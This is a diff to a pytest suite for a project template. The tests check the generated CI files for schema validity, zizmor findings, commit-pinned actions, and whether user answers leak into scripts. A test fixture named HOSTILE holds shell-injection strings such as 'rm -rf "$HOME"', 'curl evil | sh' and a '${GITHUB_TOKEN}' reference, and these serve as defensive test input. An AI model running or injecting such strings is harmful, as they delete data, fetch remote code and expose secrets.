@@ -4,25 +4,23 @@ from __future__ import annotations
 
 import re
 import shutil
-import subprocess
 import sys
 from pathlib import Path
 
 import pytest
 import yaml
-
+from conftest import Bake
 from conftest import BIN
 from conftest import DEFAULTS
-from conftest import TEMPLATE
-from conftest import Bake
 from conftest import run
+from conftest import TEMPLATE
 
 PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*")
 CI_FILES = {".github", ".gitlab-ci.yml", ".travis.yml"}
 # Answers typed by a user, with every character a shell treats specially.
 HOSTILE = {
-    "author_name": "Robert'); rm -rf \"$HOME\" `id` $(id) ${PATH} \\ ; echo",
-    "short_description": "Say \"hi\" && curl evil | sh; # ${GITHUB_TOKEN} $(whoami)",
+    "author_name": 'Robert\'); rm -rf "$HOME" `id` $(id) ${PATH} \\ ; echo',
+    "short_description": 'Say "hi" && curl evil | sh; # ${GITHUB_TOKEN} $(whoami)',
 }
 
 
@@ -46,24 +44,40 @@ def test_only_the_chosen_ci_files_exist(bake: Bake, ci: str) -> None:
 
 def test_github_files_pass_their_schemas(bake: Bake) -> None:
     project = bake(ci="github")
-    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows",
-          *sorted((project / ".github/workflows").glob("*.yaml")))
-    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.dependabot",
-          project / ".github/dependabot.yml")
+    run(
+        BIN / "check-jsonschema",
+        "--builtin-schema",
+        "vendor.github-workflows",
+        *sorted((project / ".github/workflows").glob("*.yaml")),
+    )
+    run(
+        BIN / "check-jsonschema",
+        "--builtin-schema",
+        "vendor.dependabot",
+        project / ".github/dependabot.yml",
+    )
 
 
-@pytest.mark.parametrize("answers", [{}, HOSTILE | {"with_views": True, "with_cli": True}],
-                         ids=["defaults", "hostile-text"])
+@pytest.mark.parametrize(
+    "answers",
+    [{}, HOSTILE | {"with_views": True, "with_cli": True}],
+    ids=["defaults", "hostile-text"],
+)
 def test_zizmor_finds_nothing(bake: Bake, answers: dict[str, object]) -> None:
     project = bake(ci="github", **answers)
-    out = run(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
-                project / ".github")
+    out = run(
+        BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress", project / ".github"
+    )
     assert "No findings to report" in out
 
 
 def test_actions_are_pinned_to_commits(bake: Bake) -> None:
-    uses = [step["uses"] for wf in workflows(bake(ci="github")).values() for step in steps(wf)
-            if "uses" in step]
+    uses = [
+        step["uses"]
+        for wf in workflows(bake(ci="github")).values()
+        for step in steps(wf)
+        if "uses" in step
+    ]
     assert uses
     text = "\n".join(p.read_text("utf-8") for p in (bake(ci="github") / ".github").rglob("*.y*ml"))
     for line in re.findall(r"uses: (.*)", text):
@@ -98,7 +112,7 @@ def test_publish_uses_trusted_publishing(bake: Bake) -> None:
 def test_github_matrix_spans_the_supported_pythons(bake: Bake, python_min: str) -> None:
     job = workflows(bake(ci="github", python_min=python_min))["tests.yaml"]["jobs"]["tests"]
     rows = job["strategy"]["matrix"]["include"]
-    supported = DEFAULTS["_python_versions"][DEFAULTS["_python_versions"].index(python_min):]
+    supported = DEFAULTS["_python_versions"][DEFAULTS["_python_versions"].index(python_min) :]
     cpythons = [row["python"] for row in rows if "name" not in row]
     assert sorted(cpythons) == supported
     pypy = [row["python"] for row in rows if row.get("name") == "PyPy"]
@@ -119,10 +133,13 @@ def test_typed_answers_never_reach_a_script(bake: Bake, ci: str) -> None:
             assert word not in config
 
 
-@pytest.mark.parametrize(("ci", "schema", "path"), [
-    ("gitlab", "vendor.gitlab-ci", ".gitlab-ci.yml"),
-    ("travis", "vendor.travis", ".travis.yml"),
-])
+@pytest.mark.parametrize(
+    ("ci", "schema", "path"),
+    [
+        ("gitlab", "vendor.gitlab-ci", ".gitlab-ci.yml"),
+        ("travis", "vendor.travis", ".travis.yml"),
+    ],
+)
 def test_other_ci_files_pass_their_schemas(bake: Bake, ci: str, schema: str, path: str) -> None:
     project = bake(ci=ci, python_min="3.12")
     run(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
@@ -142,8 +159,9 @@ def test_template_own_workflows_are_hardened() -> None:
     files = sorted((TEMPLATE / ".github/workflows").glob("*.yaml"))
     assert files
     run(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
-    out = run(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
-                TEMPLATE / ".github")
+    out = run(
+        BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress", TEMPLATE / ".github"
+    )
     assert "No findings to report" in out
     text = "\n".join(path.read_text("utf-8") for path in files)
     assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())
